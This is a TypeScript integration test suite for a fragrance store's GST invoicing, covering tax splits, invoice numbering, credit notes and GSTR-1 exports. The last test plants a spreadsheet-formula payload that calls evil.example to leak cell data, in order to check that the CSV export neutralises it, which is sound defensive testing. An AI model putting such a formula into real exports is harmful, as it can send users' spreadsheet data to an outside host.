import { execFileSync } from "child_process"
import fs from "fs"
import os from "os"
import path from "path"
import { parse } from "csv-parse/sync"
import { strFromU8, unzipSync } from "fflate"
import type { TestSuite } from "../helpers/runner"
import type { SeedResult } from "../../src/scripts/seed"
import { INVOICE_MODULE } from "../../src/modules/invoice"
import type InvoiceModuleService from "../../src/modules/invoice/service"
import { formatDocumentNumber, seriesKey } from "../../src/lib/invoices/number-series"
import {
  ADDRESS,
  addToCart,
  ADMIN,
  as,
  cartTotals,
  login,
  newCustomer,
  notifications,
  orderBody,
  placeOrder,
  seed,
  setStock,
  SHOPPER,
} from "../helpers/checkout"

/** The PDF's text as poppler's pdftotext reads it (poppler-utils; .ci/run installs it). */
function pdfText(pdf: Buffer): string {
  const file = path.join(os.tmpdir(), `invoice-it-${process.pid}-${Math.random().toString(36).slice(2)}.pdf`)
  fs.writeFileSync(file, pdf)
  try {
    return execFileSync("pdftotext", ["-layout", file, "-"]).toString()
  } finally {
    fs.unlinkSync(file)
  }
}

const pdfGet = (api: any, url: string, token: string) => api.get(url, { ...as(token), responseType: "arraybuffer" })
const UP_ADDRESS = { ...ADDRESS, city: "Lucknow", state: "Uttar Pradesh", zipCode: "226001" }

export const invoicesSuite: TestSuite = ({ api, getContainer }) => {
  let seeded: SeedResult
  let shopper: string
  let admin: string

  beforeAll(async () => {
    seeded = await seed(getContainer())
    shopper = await login(api, SHOPPER)
    admin = await login(api, ADMIN)
  })

  async function order(token: string, catalogueIds: string[], extra: Record<string, unknown> = {}) {
    for (const id of catalogueIds) await addToCart(api, token, id, 1)
    const res = await placeOrder(api, token, orderBody(await cartTotals(api, token), extra))
    if (res.status !== 201) throw new Error(`order: ${res.status} ${JSON.stringify(res.data)}`)
    return res.data.order as { id: string; orderNumber: string; total: number; tax: number }
  }
  const confirm = (id: string) => api.put(`/api/admin/orders/${id}/confirm`, { note: "Payment received" }, as(admin))

  it("issues the invoice on confirmation: 409 before, the owner's and the operator's PDF after, 404 for anyone else", async () => {
    const placed = await order(shopper, ["P1", "S1"]) // to Pune, Maharashtra: another state than the store's (Uttar Pradesh)
    const before = await api.get(`/api/auth/orders/${placed.id}/invoice`, as(shopper))
    expect(before.status).toBe(409)
    expect(before.data.message).toBe("The invoice is issued when the payment is confirmed.")
    expect((await api.get(`/api/admin/orders/${placed.id}/invoice`, as(admin))).status).toBe(409)

    expect((await confirm(placed.id)).status).toBe(200)
    const mine = await pdfGet(api, `/api/auth/orders/${placed.id}/invoice`, shopper)
    expect(mine.status).toBe(200)
    expect(mine.headers["content-type"]).toBe("application/pdf")
    const text = pdfText(Buffer.from(mine.data))
    const [issued] = await getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE).listTaxDocuments({ order_id: placed.id })
    expect(issued.number).toMatch(/^SGH\/\d\d-\d\d\/\d{5}$/)
    expect(text).toContain(`Invoice number: ${issued.number}`)
    expect(text).toContain("GSTIN: 09AAACS1234F1ZQ")
    expect(text).toContain("Place of supply: Maharashtra (27)")
    // Per line HSN, taxable value, rate and IGST (inter-state): 299 at 18%, 99 at 5%, shipping 99 at 18%.
    // Six-digit HSN, quantity with its UQC; the shipping takes the principal supply's rate (the perfume's 18%).
    expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
    expect(text).toMatch(/Chandan Pooja Agarbatti\s+330741\s+1 NOS\s+₹94\.29\s+5%\s+₹4\.71\s+₹99\.00/)
    expect(text).toMatch(/Shipping\s+996812\s+1\s+₹83\.90\s+18%\s+₹15\.10\s+₹99\.00/)
    expect(text).toMatch(/IGST %\s+IGST/)
    // Rule 48: the shopper's copy; Rule 46(q): the authorised signatory.
    expect(text).toContain("ORIGINAL FOR RECIPIENT")
    expect(text).toContain("For Sugandh Fragrances Private Limited")
    expect(text).toMatch(/Meera Kapoor, Director\s+Authorised Signatory/)
    expect(text).toContain("IGST")
    expect(text).not.toContain("CGST")
    expect(text).toContain(`Invoice total: ₹${placed.total.toFixed(2)}`)
    expect(placed.total).toBe(497)
    expect(text).toContain("Rupees Four Hundred Ninety Seven Only")
    // The payment-confirmed e-mail carries the invoice PDF.
    const mails = await notifications(getContainer(), "order-confirmed")
    expect(mails.find((m) => m.resource_id === placed.id)?.data?.attachments).toEqual([`${issued.number.replace(/\//g, "-")}.pdf`])

    const operator = await pdfGet(api, `/api/admin/orders/${placed.orderNumber}/invoice`, admin)
    expect(operator.status).toBe(200)
    expect(Buffer.from(operator.data).equals(Buffer.from(mine.data))).toBe(true) // same bytes each time

    const other = await newCustomer(api, seeded, "invoice-other@example.com")
    expect((await api.get(`/api/auth/orders/${placed.id}/invoice`, as(other.token))).status).toBe(404)
    expect((await api.get(`/api/admin/orders/${placed.id}/invoice`, as(shopper))).status).toBe(403)
    expect((await api.get(`/api/auth/orders/${placed.id}/invoice`, as())).status).toBe(401)
  })

  it("splits the tax into CGST + SGST when the goods go to the store's state", async () => {
    const placed = await order(shopper, ["P1"], { shippingAddress: UP_ADDRESS })
    await confirm(placed.id)
    const res = await pdfGet(api, `/api/auth/orders/${placed.id}/invoice`, shopper)
    const text = pdfText(Buffer.from(res.data))
    expect(text).toContain("Place of supply: Uttar Pradesh (09)")
    expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.38\s+9%\s+₹22\.81\s+9%\s+₹22\.81\s+₹299\.00/)
    expect(text).toMatch(/CGST\s+SGST/)
    expect(text).not.toContain("IGST")
    expect(text).toContain("Invoice total: ₹398.00")
  })

  it("gives 20 documents issued in parallel through the module 20 distinct consecutive numbers", async () => {
    const invoices = getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE)
    const lastNumber = async (series: string) => (await invoices.listTaxDocumentSeries({ id: series }))[0]?.last_number ?? 0

    // 20 at once through the module's real transaction and row lock, in a test series dated 2020 so they stay out of this month's report.
    const series = "TST/19-20"
    const testDate = new Date("2020-01-15T06:00:00Z")
    const before = await lastNumber(series)
    const issued = await Promise.all(
      Array.from({ length: 20 }, (_, i) =>
        invoices.issueTaxDocument({
          kind: "invoice",
          order_id: `order_parallel_${i}`,
          series,
          issued_at: testDate,
          format: formatDocumentNumber,
          build: (number) => ({ number }),
        })
      )
    )
    const numbers = issued.map((d) => Number(d!.number.split("/")[2])).sort((a, b) => a - b)
    expect(numbers).toEqual(Array.from({ length: 20 }, (_, i) => before + i + 1))
    expect(await lastNumber(series)).toBe(before + 20)
    // Issuing again for an order returns its document and uses no number.
    const again = await invoices.issueTaxDocument({
      kind: "invoice",
      order_id: "order_parallel_0",
      series,
      issued_at: testDate,
      format: formatDocumentNumber,
      build: (n) => ({ n }),
    })
    expect(again!.number).toBe(issued[0]!.number)
    expect(await lastNumber(series)).toBe(before + 20)
  })

  it("confirms 20 unpaid orders with 20 concurrent operator calls: 20 distinct consecutive invoice numbers", async () => {
    const invoices = getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE)
    await setStock(getContainer(), seeded, "S1", 100)
    // Placed one after another (the machine is small); confirmed all at once through the operators' route.
    const orders: { id: string }[] = []
    for (let i = 0; i < 20; i++) orders.push(await order(shopper, ["S1"]))
    const series = seriesKey("invoice", new Date())
    const start = (await invoices.listTaxDocumentSeries({ id: series }))[0]?.last_number ?? 0
    const results = await Promise.all(orders.map((o) => confirm(o.id)))
    expect(results.map((r) => r.status)).toEqual(Array(20).fill(200))
    const docs = await invoices.listTaxDocuments({ order_id: orders.map((o) => o.id), kind: "invoice" })
    expect(docs).toHaveLength(20)
    expect(new Set(docs.map((d) => d.order_id)).size).toBe(20)
    expect(docs.every((d) => d.number.startsWith(`${series}/`))).toBe(true)
    const numbers = docs.map((d) => Number(d.number.split("/")[2])).sort((a, b) => a - b)
    expect(numbers).toEqual(Array.from({ length: 20 }, (_, i) => start + i + 1))
    expect((await invoices.listTaxDocumentSeries({ id: series }))[0].last_number).toBe(start + 20)
    // Confirming again issues nothing new.
    await Promise.all(orders.slice(0, 3).map((o) => confirm(o.id)))
    expect((await invoices.listTaxDocumentSeries({ id: series }))[0].last_number).toBe(start + 20)
  })

  it("cancelling an invoiced order issues a credit note in its own series, with the same layout", async () => {
    const placed = await order(shopper, ["P1"])
    await confirm(placed.id)
    const none = await api.get(`/api/auth/orders/${placed.id}/credit-note`, as(shopper))
    expect([none.status, none.data.message]).toEqual([409, "A credit note is issued when an invoiced order is cancelled."])
    const cancel = await api.put(`/api/auth/orders/${placed.id}/cancel`, { reason: "Changed my mind" }, as(shopper))
    expect(cancel.status).toBe(200)
    const invoices = getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE)
    const docs = await invoices.listTaxDocuments({ order_id: placed.id })
    const invoice = docs.find((d) => d.kind === "invoice")!
    const credit = docs.find((d) => d.kind === "credit_note")!
    expect(credit.number).toMatch(/^SGC\/\d\d-\d\d\/\d{5}$/)
    // The owner and an operator download it; nobody else.
    const mine = await pdfGet(api, `/api/auth/orders/${placed.id}/credit-note`, shopper)
    expect([mine.status, mine.headers["content-type"]]).toEqual([200, "application/pdf"])
    expect(mine.headers["content-disposition"]).toBe(`attachment; filename="${credit.number.replace(/\//g, "-")}.pdf"`)
    const operators = await pdfGet(api, `/api/admin/orders/${placed.id}/credit-note`, admin)
    expect(Buffer.from(operators.data).equals(Buffer.from(mine.data))).toBe(true)
    const other = await newCustomer(api, seeded, "credit-other@example.com")
    expect((await api.get(`/api/auth/orders/${placed.id}/credit-note`, as(other.token))).status).toBe(404)
    expect((await api.get(`/api/admin/orders/${placed.id}/credit-note`, as(shopper))).status).toBe(403)
    const text = pdfText(Buffer.from(mine.data))
    expect(text).toContain("CREDIT NOTE")
    expect(text).toContain(`Against invoice: ${invoice.number}`)
    expect(text).toMatch(/Velvet Oud\s+330300\s+1 NOS\s+₹253\.39\s+18%\s+₹45\.61\s+₹299\.00/)
    expect(text).toContain("Credit total: ₹398.00")

    // An order cancelled before payment was never invoiced: no credit note.
    const unpaid = await order(shopper, ["S1"])
    await api.put(`/api/auth/orders/${unpaid.id}/cancel`, { reason: "Changed my mind" }, as(shopper))
    expect(await invoices.listTaxDocuments({ order_id: unpaid.id })).toEqual([])
  })

  it("issues several partial credit notes from the stored invoice (dashboard and Medusa admin), never more than the invoice, and refuses late ones", async () => {
    const placed = await order(shopper, ["P1", "S1"]) // Velvet Oud 299 (18%), Agarbatti 99 (5%), shipping 99: 497
    expect((await confirm(placed.id)).status).toBe(200)
    const url = `/api/admin/orders/${placed.id}/credit-notes`
    const view = await api.get(url, as(admin))
    const lines = view.data.invoice.lines as { line: number; description: string; quantity: number; amount: number; credited: number }[]
    expect(lines.map((l) => [l.description, l.quantity, l.amount, l.credited]).sort()).toEqual([
      ["Chandan Pooja Agarbatti", 1, 99, 0],
      ["Velvet Oud", 1, 299, 0],
    ])
    const perfumeLine = lines.find((l) => l.description === "Velvet Oud")!.line
    const incenseLine = lines.find((l) => l.description === "Chandan Pooja Agarbatti")!.line

    // One damaged perfume, from the dashboard.
    const first = await api.post(url, { lines: [{ line: perfumeLine, quantity: 1 }], reason: "Damaged in transit" }, as(admin))
    expect(first.status).toBe(201)
    expect(first.data.creditNote.number).toMatch(/^SGC\/\d\d-\d\d\/\d{5}$/)
    // An agreed ₹40 on the incense and the shipping, from the Medusa admin.
    const medusaAdmin = (await api.post("/auth/user/emailpass", ADMIN)).data.token as string
    const second = await api.post(
      `/api/admin/orders/${placed.id}/credit-notes`,
      { lines: [{ line: incenseLine, amount: 40 }], shipping: 99, reason: "Late delivery", reference: "medusa-admin-0001" },
      { headers: { authorization: `Bearer ${medusaAdmin}` } }
    )
    expect(second.status).toBe(201)
    // The same reference again returns the same note.
    const again = await api.post(
      `/api/admin/orders/${placed.id}/credit-notes`,
      { lines: [{ line: incenseLine, amount: 40 }], shipping: 99, reason: "Late delivery", reference: "medusa-admin-0001" },
      { headers: { authorization: `Bearer ${medusaAdmin}` } }
    )
    expect(again.data.creditNote.number).toBe(second.data.creditNote.number)

    // More than is left is refused and issues nothing.
    const over = await api.post(url, { lines: [{ line: perfumeLine, amount: 1 }], reason: "Again" }, as(admin))
    expect([over.status, over.data.message]).toEqual([400, `Line ${perfumeLine} has ₹0.00 left to credit`])
    expect((await api.post(url, { lines: [{ line: incenseLine, amount: 59.01 }], reason: "Too much" }, as(admin))).status).toBe(400)
    expect((await api.post(url, { lines: [], reason: "Nothing" }, as(admin))).status).toBe(400)
    expect((await api.post(url, { lines: [{ line: incenseLine, amount: 10 }], reason: "x" }, as(shopper))).status).toBe(403)

    const invoicesModule = getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE)
    const notes = (await invoicesModule.listTaxDocuments({ order_id: placed.id, kind: "credit_note" })).map((d) => d.document as any)
    expect(notes).toHaveLength(2)
    const cents = (n: number) => Math.round(n * 100)
    expect(notes.reduce((s, n) => s + cents(n.totals.gross), 0)).toBe(cents(299 + 40 + 99))
    expect(notes.reduce((s, n) => s + cents(n.totals.gross), 0)).toBeLessThanOrEqual(cents(placed.total))

    // Each PDF: the credited line, the reason, against the invoice.
    const pdf = await pdfGet(api, `${url}/${second.data.creditNote.id}`, admin)
    const text = pdfText(Buffer.from(pdf.data))
    expect(text).toContain("Reason: Late delivery")
    expect(text).toMatch(/Chandan Pooja Agarbatti\s+330741\s+0 NOS\s+₹38\.10\s+5%\s+₹1\.90\s+₹40\.00/)
    expect(text).toContain("Credit total: ₹139.00")

    // Cancelling now credits exactly what is left: ₹59 of the incense.
    expect((await api.put(`/api/auth/orders/${placed.id}/cancel`, { reason: "Changed my mind" }, as(shopper))).status).toBe(200)
    const all = (await api.get(url, as(admin))).data
    expect(all.creditNotes).toHaveLength(3)
    expect(all.creditNotes.reduce((s: number, n: any) => s + cents(n.total), 0)).toBe(cents(placed.total))
    expect(all.invoice.lines.map((l: any) => l.credited).sort()).toEqual([299, 99].sort())

    // An invoice from March 2025 could be credited until 30 November 2025 only.
    const other = await order(shopper, ["S1"])
    await confirm(other.id)
    const [old] = await invoicesModule.listTaxDocuments({ order_id: other.id, kind: "invoice" })
    await invoicesModule.updateTaxDocuments({ id: old.id, document: { ...(old.document as any), date: "2025-03-10" } })
    const late = await api.post(
      `/api/admin/orders/${other.id}/credit-notes`,
      { lines: [{ line: 1, quantity: 1 }], reason: "Returned" },
      as(admin)
    )
    expect(late.status).toBe(409)
    expect(late.data.message).toContain("could be issued until 30 November 2025 (CGST Act section 34(2))")
    const lateCancel = await api.put(`/api/admin/orders/${other.id}/status`, { status: "cancelled" }, as(admin))
    expect(lateCancel.status).toBe(409)
    expect(await invoicesModule.listTaxDocuments({ order_id: other.id, kind: "credit_note" })).toEqual([])
  })

  it("a business buyer's GSTIN at checkout: refused when invalid, then a B2B invoice with the recipient's GSTIN, in GSTR-1's b2b table", async () => {
    // The profile keeps a GSTIN and business name for checkout, validated the same way.
    const me = (await api.get("/api/auth/me", as(shopper))).data.user
    const profile = (extra: Record<string, unknown>) =>
      api.put("/api/auth/profile", { firstName: me.firstName, lastName: me.lastName, email: me.email, ...extra }, as(shopper))
    const refused = await profile({ gstin: "29AAGCB7383J1Z5", businessName: "Bengaluru Fragrance Traders LLP" })
    expect([refused.status, refused.data.errors]).toEqual([
      400,
      [{ msg: "GSTIN check character does not match; please check the number", path: "gstin" }],
    ])
    const saved = await profile({ gstin: "29aagcb7383j1z4", businessName: "Bengaluru Fragrance Traders LLP" })
    expect(saved.status).toBe(200)
    expect(saved.data.user).toMatchObject({ gstin: "29AAGCB7383J1Z4", businessName: "Bengaluru Fragrance Traders LLP" })
    expect((await profile({ gstin: null, businessName: null })).data.user).not.toHaveProperty("gstin")

    await addToCart(api, shopper, "P1", 1)
    const totals = await cartTotals(api, shopper)
    const bad = await placeOrder(
      api,
      shopper,
      orderBody(totals, { gstin: "29AAGCB7383J1Z5", businessName: "Bengaluru Fragrance Traders LLP" })
    )
    expect(bad.status).toBe(400)
    expect(bad.data.errors).toEqual([{ msg: "GSTIN check character does not match; please check the number", path: "gstin" }])
    const noName = await placeOrder(api, shopper, orderBody(totals, { gstin: "29AAGCB7383J1Z4" }))
    expect(noName.data.errors).toEqual([{ msg: "Please enter the business name registered with the GSTIN", path: "businessName" }])

    const placed = await placeOrder(
      api,
      shopper,
      orderBody(totals, { gstin: "29aagcb7383j1z4", businessName: "Bengaluru Fragrance Traders LLP" })
    )
    expect(placed.status).toBe(201)
    const orderId = placed.data.order.id as string
    expect((await confirm(orderId)).status).toBe(200)
    const text = pdfText(Buffer.from((await pdfGet(api, `/api/auth/orders/${orderId}/invoice`, shopper)).data))
    expect(text).toContain("Bengaluru Fragrance Traders LLP")
    expect(text).toContain("Recipient GSTIN: 29AAGCB7383J1Z4")
    // Delivered to Pune, billed to a business registered in Karnataka: the GSTIN's state is the place of supply (IGST).
    expect(text).toContain("Place of supply: Karnataka (29)")
    expect(text).toMatch(/IGST %\s+IGST/)

    const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
    const b2b = parse((await api.get(`/api/admin/reports/gst?month=${month}&table=b2b`, as(admin))).data) as string[][]
    // The perfume (₹299) and its ₹99 shipping, both at 18%: one row, taxable 253.39 + 83.90.
    const [{ number }] = await getContainer()
      .resolve<InvoiceModuleService>(INVOICE_MODULE)
      .listTaxDocuments({ order_id: orderId, kind: "invoice" })
    expect(b2b.slice(1)).toEqual([
      [
        "29AAGCB7383J1Z4",
        "Bengaluru Fragrance Traders LLP",
        number,
        expect.stringMatching(/^\d\d-[A-Z][a-z]{2}-\d{4}$/),
        "398.00",
        "29-Karnataka",
        "N",
        "",
        "Regular B2B",
        "",
        "18",
        "337.29",
        "",
      ],
    ])
    const b2cs = parse((await api.get(`/api/admin/reports/gst?month=${month}&table=b2cs`, as(admin))).data) as string[][]
    expect(b2cs).toHaveLength(1) // no consumer invoice this month: headers only
  })

  // medusaIntegrationTestRunner restores the database from the template taken after beforeAll before every
  // test, so the documents the tests above issued are gone here: this test issues its own.
  it("exports the month's invoices and credit notes as CSV whose totals equal the sum of the documents", async () => {
    const interState = await order(shopper, ["P1", "S1"]) // Maharashtra: IGST
    const intraState = await order(shopper, ["P1"], { shippingAddress: UP_ADDRESS }) // the store's state: CGST + SGST
    const cancelled = await order(shopper, ["S1"])
    for (const o of [interState, intraState, cancelled]) expect((await confirm(o.id)).status).toBe(200)
    expect((await api.put(`/api/auth/orders/${cancelled.id}/cancel`, { reason: "Changed my mind" }, as(shopper))).status).toBe(200)
    const docs = await getContainer()
      .resolve<InvoiceModuleService>(INVOICE_MODULE)
      .listTaxDocuments({ order_id: [interState.id, intraState.id, cancelled.id] })
    expect(docs).toHaveLength(4)
    const numberOf = (orderId: string, kind: string) => docs.find((d) => d.order_id === orderId && d.kind === kind)!.number

    const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7) // this month in IST
    const res = await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))
    expect(res.status).toBe(200)
    expect(res.headers["content-type"]).toContain("text/csv")
    const rows = parse(res.data) as string[][]
    const cents = (v: string) => Math.round(Number(v) * 100)
    const documentRows = rows.filter((r) => r[0] === "document")
    expect([...new Set(documentRows.map((r) => r[2]))].sort()).toEqual(docs.map((d) => d.number).sort())
    const grossOf = (number: string) => documentRows.filter((r) => r[2] === number).reduce((s, r) => s + cents(r[12]), 0)
    // Each document's rows add up to its order's total; the credit note's are negative.
    expect(grossOf(numberOf(interState.id, "invoice"))).toBe(cents(String(interState.total)))
    expect(grossOf(numberOf(intraState.id, "invoice"))).toBe(cents(String(intraState.total)))
    expect(grossOf(numberOf(cancelled.id, "invoice"))).toBe(cents(String(cancelled.total)))
    const creditRows = documentRows.filter((r) => r[2] === numberOf(cancelled.id, "credit_note"))
    expect(creditRows.every((r) => r[1] === "credit_note" && cents(r[8]) < 0 && cents(r[12]) < 0)).toBe(true)
    expect(grossOf(numberOf(cancelled.id, "credit_note"))).toBe(-cents(String(cancelled.total)))
    // Taxable value plus tax is the row's total on every row.
    for (const r of documentRows) expect(cents(r[8]) + cents(r[9]) + cents(r[10]) + cents(r[11])).toBe(cents(r[12]))
    expect(
      documentRows.filter((r) => r[2] === numberOf(interState.id, "invoice")).every((r) => cents(r[9]) > 0 && cents(r[10]) === 0)
    ).toBe(true)
    expect(
      documentRows
        .filter((r) => r[2] === numberOf(intraState.id, "invoice"))
        .every((r) => cents(r[9]) === 0 && cents(r[10]) > 0 && r[10] === r[11])
    ).toBe(true)

    // The report's total and its summary equal the sum of the documents: invoices minus the credit note.
    const expected = cents(String(interState.total)) + cents(String(intraState.total))
    const total = rows.find((r) => r[0] === "total")!
    expect(cents(total[12])).toBe(expected)
    const summary = rows.filter((r) => r[0] === "summary")
    expect(summary.reduce((s, r) => s + cents(r[12]), 0)).toBe(expected)
    expect(summary.reduce((s, r) => s + cents(r[8]), 0)).toBe(cents(total[8]))
    expect(summary.map((r) => `${r[6]}|${r[7]}`).sort()).toEqual(["09|18", "27|18", "27|5"])

    const bad = await api.get(`/api/admin/reports/gst?month=2026-13`, as(admin))
    expect(bad.status).toBe(400)
    expect(bad.data).toEqual({
      message: "Give the month as YYYY-MM, e.g. 2026-11",
      errors: [{ msg: "Give the month as YYYY-MM, e.g. 2026-11", path: "month" }],
    })
    expect((await api.get(`/api/admin/reports/gst?month=${month}`, as(shopper))).status).toBe(403)
    const empty = await api.get(`/api/admin/reports/gst?month=2020-01`, as(admin))
    expect(parse(empty.data).at(-1)).toEqual(["total", "", "", "", "", "", "", "", "0.00", "0.00", "0.00", "0.00", "0.00", "", ""])
  })

  it("answers each GSTR-1 table in the offline tool's shape, adding up to the month's summary, and all of them as a ZIP", async () => {
    const interState = await order(shopper, ["P1", "S1"]) // Maharashtra
    const intraState = await order(shopper, ["P1"], { shippingAddress: UP_ADDRESS })
    for (const o of [interState, intraState]) expect((await confirm(o.id)).status).toBe(200)
    const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
    // Each single download carries the offline tool's section file name, which it imports by.
    const table = async (name: string, file = `${name}.csv`) => {
      const res = await api.get(`/api/admin/reports/gst?month=${month}&table=${name}`, as(admin))
      expect([res.status, res.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8"])
      expect(res.headers["content-disposition"]).toBe(`attachment; filename="${file}"`)
      return parse(res.data) as string[][]
    }
    const cents = (v: string) => Math.round(Number(v) * 100)
    const summaryTotal = (await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))).data as string
    const total = (parse(summaryTotal) as string[][]).find((r) => r[0] === "total")!

    const b2cs = await table("b2cs")
    expect(b2cs[0]).toEqual([
      "Type",
      "Place Of Supply",
      "Rate",
      "Applicable % of Tax Rate",
      "Taxable Value",
      "Cess Amount",
      "E-Commerce GSTIN",
    ])
    expect(b2cs.slice(1).map((r) => `${r[0]}|${r[1]}|${r[2]}`)).toEqual([
      "OE|09-Uttar Pradesh|18",
      "OE|27-Maharashtra|5",
      "OE|27-Maharashtra|18",
    ])
    expect(b2cs.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[8]))
    const hsn = await table("hsn_b2c", "hsn(b2c).csv")
    expect(hsn[0].at(-1)).toBe("Rate")
    expect(hsn.slice(1).reduce((s, r) => s + cents(r[5]), 0)).toBe(cents(total[8]))
    expect(hsn.slice(1).reduce((s, r) => s + cents(r[4]), 0)).toBe(cents(total[12]))
    expect((await table("b2b", "b2b,sez,de.csv")).length).toBe(1) // no registered buyer: the header only
    const docs = await table("docs")
    expect(docs.slice(1).map((r) => [r[0], r[3], r[4]])).toEqual([["Invoices for outward supply", "2", "0"]])

    const zip = await api.get(`/api/admin/reports/gst?month=${month}&table=all`, { ...as(admin), responseType: "arraybuffer" })
    expect([zip.status, zip.headers["content-type"]]).toEqual([200, "application/zip"])
    const files = unzipSync(new Uint8Array(zip.data))
    expect(Object.keys(files).sort()).toEqual([
      "b2b,sez,de.csv",
      "b2cl.csv",
      "b2cs.csv",
      "cdnr.csv",
      "cdnur.csv",
      "docs.csv",
      "hsn(b2b).csv",
      "hsn(b2c).csv",
    ])
    expect(parse(strFromU8(files["b2cs.csv"]))).toEqual(b2cs)

    const empty = await api.get(`/api/admin/reports/gst?month=2020-01&table=b2cs`, as(admin))
    expect(parse(empty.data)).toEqual([b2cs[0]])
    const bad = await api.get(`/api/admin/reports/gst?month=${month}&table=gstr3b`, as(admin))
    expect(bad.status).toBe(400)
    expect(bad.data.errors).toEqual([
      { msg: "table must be one of b2b, b2cl, b2cs, cdnr, cdnur, hsn_b2b, hsn_b2c, docs or all", path: "table" },
    ])
    expect((await api.get(`/api/admin/reports/gst?month=${month}&table=b2cs`, as(shopper))).status).toBe(403)
  })

  it("neutralises a shopper's name and address that a spreadsheet would run as a formula", async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    const address = { ...ADDRESS, name: `${hostile} Verma`, street: `${hostile} Road` }
    const placed = await order(shopper, ["S1"], { shippingAddress: address })
    expect((await confirm(placed.id)).status).toBe(200)
    const [issued] = await getContainer().resolve<InvoiceModuleService>(INVOICE_MODULE).listTaxDocuments({ order_id: placed.id })

    const month = new Date(Date.now() + 330 * 60 * 1000).toISOString().slice(0, 7)
    const res = await api.get(`/api/admin/reports/gst?month=${month}`, as(admin))
    expect(res.status).toBe(200)
    const header = (parse(res.data) as string[][])[0]
    const row = (parse(res.data) as string[][]).find((r) => r[2] === issued.number)!
    const cell = (column: string) => row[header.indexOf(column)]
    // Read back as text: a leading apostrophe, the shopper's text kept whole after it.
    expect(cell("recipient_name")).toBe(`'${hostile} Verma`)
    expect(cell("recipient_address")).toBe(`'${hostile} Road, Pune, Maharashtra, 411001`)
    // No cell anywhere in the file starts a formula.
    for (const r of parse(res.data) as string[][])
      for (const c of r) expect(/^[=+@\t\r]/.test(c) || /^-(?!\d+(\.\d+)?$)/.test(c)).toBe(false)
  })
}
